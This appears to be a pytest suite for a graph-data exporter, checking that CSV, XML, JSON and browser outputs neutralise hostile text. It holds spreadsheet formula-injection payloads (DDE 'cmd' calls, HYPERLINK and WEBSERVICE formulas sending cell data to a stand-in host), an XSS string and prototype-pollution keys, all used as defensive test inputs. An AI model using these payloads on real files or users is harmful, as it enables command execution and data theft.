"""What hostile text can do in the open data files (threats.md C.6 and C.7): nothing."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from contextlib import closing
from pathlib import Path

import igraph
import networkx as nx
import pyarrow.parquet as pq
import pytest
import rdflib
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from graph.exports import as_gexf, as_graphml, as_json, as_json_ld, as_node_link, export
from graph.exports.linked import iri
from graph.tables.fitting import clean_id
from knowledge.spreadsheets import as_csv, cell

CHROMIUM = Path("/usr/bin/chromium")
UNSEEN = ' \t\r\n\v\f\x00\xa0\xad\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u3000"'
SIGNS = "=+-@＝＋－＠"
# own words for what sheets are known to calculate: functions, links, DDE, behind blanks and breaks
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", '=HYPERLINK("http://e.example?x="&A1;"klik")',
    '=WEBSERVICE("http://e.example/"&A1)', '=IMPORTXML("http://e.example";"//a")', "=DDE(a;b;c)",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\r\n@A1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u00ad=1+1", "＝1+1", "＋1+1", "－1+1", "＠A1", "\u3000＝1+1",
    "Gemeente;=1+1", "Gemeente; =1+1;", "Gemeente\t=1+1", "Gemeente\n=1+1\n", "Gemeente\r+1",
    "Gemeente;＝1+1", ";;=1", 'x;"=1+1', 'x;""=1+1', '"=1+1', "x\n\"@A1", "\tx", "\rx",
)  # fmt: skip
ODD = ("__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf")
BROKEN = (
    "a\x00b", "a\x08", "\x0b", "a\x1f", "a\ufffe", "a\uffff", "half \ud800 sign", "\udfff",
    "<!-- ]]> &amp; </node>", '"><script>alert(1)</script>', "a\rb", "regel\nregel", "0344",
    "e\u0301", "\u202egnirts", "𝄞", "x" * 5000,
)  # fmt: skip


@pytest.fixture(autouse=True)
def clock(monkeypatch):
    monkeypatch.setenv("NOABER_NOW", "2026-11-23")


def graph_of(texts):
    """A graph in which each text is an id, a title, a role, an address, a source and a claimant.

    It is put together by hand, since the models refuse half a character at the door.
    """
    made = nx.MultiDiGraph(past=[])
    for text in texts:
        tool = f"https://c.example/{text}"
        made.add_node(text, kind="organisation", title=text, slug="s", province=text)
        made.add_node(tool, kind="solution", title=text, slug="s", website=text)
        names = ("role", "since", "until", "source", "url", "claimant", "via", "doubt")
        said = dict.fromkeys(names, text) | {"strength": "third", "state": "current"}
        said |= {"first_seen": "", "last_seen": "2026-11-01"}
        whole = said | {"subject": text, "relation": "uses", "object": tool}
        made.add_edge(text, tool, key="uses", relation="uses", counts=True, apart="",
                      evidence=[whole, whole | {"claimant": ""}], **said)  # fmt: skip
        made.graph["past"].append(whole)
    return made


@pytest.fixture(scope="module")
def broken():
    return graph_of((*BROKEN, *ODD, *FORMULAS))


@pytest.fixture(scope="module")
def files(broken, tmp_path_factory):
    folder = tmp_path_factory.mktemp("broken")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NOABER_NOW", "2026-11-23")
        export(broken, folder)
    return folder


def calculated(text):
    """The cells that a sheet would calculate, whichever sign it splits at."""
    found = []
    for sign in ",;\t":
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=sign):
            found += [one for one in row if one.lstrip(UNSEEN)[:1] in tuple(SIGNS)]
    return found


def test_the_formulas_of_this_test_would_be_calculated():
    for formula in FORMULAS[:-2]:
        plain = f'"","{formula.replace(chr(34), chr(34) * 2)}",""\r\n'

        assert calculated(plain), formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_is_calculated_whichever_sign_a_sheet_splits_at(formula):
    assert calculated(as_csv(["a"], [["x", formula, "y"], [formula, formula, formula]])) == []
    assert cell(formula) != formula


@given(st.lists(st.text(alphabet=f"{SIGNS};,\t\r\n \"'a1\u200b"), min_size=1, max_size=4))
def test_no_text_at_all_is_calculated(cells):
    assert calculated(as_csv(["a"] * len(cells), [cells, cells])) == []


def test_no_sheet_of_an_export_has_a_cell_that_is_calculated(files):
    sheets = sorted(files.glob("**/*.csv"))

    assert len(sheets) > 10
    assert {path.name: calculated(path.read_bytes().decode("utf-8-sig")) for path in sheets} == {
        path.name: [] for path in sheets
    }


def test_what_needs_no_mark_gets_none():
    for text in ("Verhuizen", "a-b", "a; b", "https://a.example/?a=1;b=2", "0344", "ja/nee", ""):
        assert cell(text) == text
    assert (cell(-3), cell(-2.5), cell("-3")) == ("-3", "-2.5", "'-3")


def test_graphml_and_gexf_are_well_formed_and_keep_every_node_and_edge(broken, files):
    for name in ("graph.graphml", "graph.gexf"):
        etree.parse(files / name)
    counts = (broken.number_of_nodes(), broken.number_of_edges())
    for again in (
        nx.read_graphml(files / "graph.graphml", force_multigraph=True),
        nx.read_gexf(files / "graph.gexf", version="1.3"),
        igraph.Graph.from_networkx(nx.read_gexf(files / "graph.gexf", version="1.3")),
        igraph.Graph.Read_GraphML(str(files / "graph.graphml")),
    ):
        is_other = isinstance(again, igraph.Graph)
        found = (again.vcount(), again.ecount()) if is_other else (len(again), again.size())

        assert found == counts


def test_ids_survive_xml_as_all_files_have_them(broken, files):
    expected = {clean_id(node) for node in broken}

    assert len(expected) == len(broken)
    assert set(nx.read_graphml(files / "graph.graphml", force_multigraph=True)) == expected
    assert set(nx.read_gexf(files / "graph.gexf", version="1.3")) == expected
    assert {row["id"] for row in json.loads((files / "node-link.json").read_text())["nodes"]} == (
        expected
    )
    assert set(pq.read_table(files / "parquet/things.parquet")["id"].to_pylist()) == expected
    with closing(sqlite3.connect(files / "noaber.sqlite")) as database:
        assert {one for (one,) in database.execute("SELECT id FROM things")} == expected
        assert database.execute("PRAGMA foreign_key_check").fetchall() == []


@given(st.lists(st.text(min_size=1), min_size=1, max_size=5, unique=True))
def test_any_ids_and_titles_give_xml_and_json_that_open(texts):
    made = graph_of(texts)

    etree.fromstring(as_graphml(made).encode())
    etree.fromstring(as_gexf(made).encode())
    assert len(json.loads(as_node_link(made).encode())["edges"]) == made.number_of_edges()
    assert len(json.loads(as_json(made).encode())["nodes"]) == made.number_of_nodes()
    assert json.loads(as_json_ld(made).encode())["@graph"]


@given(st.text(min_size=1).map(clean_id))
def test_any_id_becomes_an_address_that_rdf_can_hold(text):
    address = iri(text)

    assert rdflib.URIRef(address).n3().startswith("<")
    assert iri(address) == address


@pytest.mark.parametrize("value", [None, [], ["a"], {"a": None}, b"a", float("nan"), 10**400])
def test_what_a_column_cannot_hold_is_left_out_of_files_with_rows(value, tmp_path):
    made = graph_of(["https://a.example/o"])
    made.nodes["https://a.example/o"]["inhabitants"] = value
    made.nodes["https://a.example/o"]["province"] = value
    names = ("csv", "sqlite", "ladybug", "parquet", "jsonl", "graphml", "gexf", "json-ld")
    export(made, tmp_path, names)
    (row,) = pq.read_table(tmp_path / "parquet/organisations.parquet").to_pylist()

    assert (row["inhabitants"], row["province"]) == (None, None)
    assert len(nx.read_gexf(tmp_path / "graph.gexf", version="1.3")) == 2


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf")])
def test_json_refuses_a_number_that_is_none(value):
    made = graph_of(["https://a.example/o"])
    made.nodes["https://a.example/o"]["inhabitants"] = value

    with pytest.raises(ValueError, match="not JSON compliant"):
        as_json(made)
    with pytest.raises(ValueError, match="not JSON compliant"):
        as_node_link(made)


def test_whole_numbers_beyond_what_javascript_holds_are_text(tmp_path):
    made = graph_of(["https://a.example/o"])
    large = {"inhabitants": 2**53, "cost_facts": [{"cents": -(2**60)}]}
    made.nodes["https://a.example/o"].update(large)
    export(made, tmp_path, ("jsonl", "parquet"))
    (line,) = (tmp_path / "jsonl/organisations.jsonl").read_text().splitlines()
    node = next(one for one in json.loads(as_node_link(made))["nodes"] if "inhabitants" in one)

    assert json.loads(line)["inhabitants"] == str(2**53)
    assert node["inhabitants"] == str(2**53)
    assert node["cost_facts"] == [{"cents": str(-(2**60))}]
    assert pq.read_table(tmp_path / "parquet/organisations.parquet")["inhabitants"].to_pylist() == [
        2**53
    ]


def test_the_largest_number_that_javascript_holds_stays_one():
    made = graph_of(["https://a.example/o"])
    made.nodes["https://a.example/o"]["inhabitants"] = 2**53 - 1
    nodes = json.loads(as_node_link(made))["nodes"]

    assert [one["inhabitants"] for one in nodes if "inhabitants" in one] == [2**53 - 1]


def test_ids_are_values_and_never_keys(broken):
    def keys(value):
        if isinstance(value, dict):
            yield from value
        for one in value.values() if isinstance(value, dict) else value:
            if isinstance(one, dict | list):
                yield from keys(one)

    for text in (as_json(broken), as_node_link(broken), as_json_ld(broken)):
        assert not {*keys(json.loads(text))} & {*ODD, *BROKEN}


@pytest.mark.browser
def test_a_browser_that_loads_the_graph_is_as_it_was(broken):
    if not CHROMIUM.exists():
        pytest.skip("Chromium is absent: apt-get install chromium")
    from playwright.sync_api import sync_playwright  # locked: its absence is a failure

    loaded = """text => {
      const graph = JSON.parse(text), byId = new Map(), degree = Object.create(null);
      for (const node of graph.nodes) { byId.set(node.id, node); degree[node.id] = 0; }
      for (const edge of graph.edges) { degree[edge.source] += 1; degree[edge.target] += 1; }
      return [byId.size, Object.keys(degree).length, byId.get("__proto__").title,
              degree.constructor, ({}).polluted === undefined, typeof ({}).toString,
              Object.keys(Object.prototype).length];
    }"""
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"]
        )
        found = chromium.new_page().evaluate(loaded, as_node_link(broken))
        chromium.close()

    assert found == [len(broken), len(broken), "__proto__", 1, True, "function", 0]
